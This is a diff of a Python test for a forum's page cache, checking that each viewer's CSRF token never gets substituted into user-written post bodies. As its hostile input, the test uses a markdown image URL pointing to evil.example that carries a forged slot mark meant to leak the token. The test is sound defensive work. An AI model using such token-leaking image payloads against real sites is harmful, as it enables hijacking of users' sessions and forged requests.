@@ -483,26 +483,30 @@ def test_payloads_in_the_query_string_are_inert_on_a_list_page(
 def test_cached_pages_do_not_put_the_visitors_csrf_token_into_user_content(
     client, category, settings
 ):
-    # The anonymous page cache (forum.caching) stores pages with a placeholder for the CSRF
-    # token and swaps each visitor's token in. A post naming the placeholder must not get
-    # the token: an image URL would send it to another site.
-    caching = pytest.importorskip("forum.caching")
-    placeholder = getattr(caching, "CSRF_PLACEHOLDER", "__forum_csrf_token__")
+    # Shared pages (forum.caching) keep per-viewer slots, filled for each viewer: the CSRF
+    # token among them. A post that imitates a slot mark must not get the token: an image
+    # URL would send it to another site.
+    from forum import slots
+
     settings.FORUM_PAGE_CACHE_SECONDS = 300
+    guess = "\x00" + "0" * 16 + ":csrf:\x00"
     thread = services.ask_question(
         author=UserFactory(),
         category=category,
         title="Display stays blank after the update",
-        body=f"![x](https://evil.example/p.png?t={placeholder}) and `{placeholder}`",
+        body=f"![x](https://evil.example/p.png?t={guess}) and `{guess}` csrf-{slots._secret()[:4]}",
     )
-
-    client.get(thread.get_absolute_url())  # renders the page into the cache
+    client.get(thread.get_absolute_url())  # an anonymous visitor renders it into the cache
+    client.force_login(UserFactory())
     document = parse_html(_get(client, thread.get_absolute_url()))
 
-    (token,) = {
+    tokens = {
         el.get("value") for el in document.iter("input") if el.get("name") == "csrfmiddlewaretoken"
     }
+    assert tokens
     bodies = [el for el in document.iter() if "post-body" in el.get("class", "").split()]
     assert bodies
     for body in bodies:
-        assert token not in ET.tostring(body, encoding="unicode")
+        html = ET.tostring(body, encoding="unicode")
+        assert not any(token in html for token in tokens)
+        assert "\x00" not in html
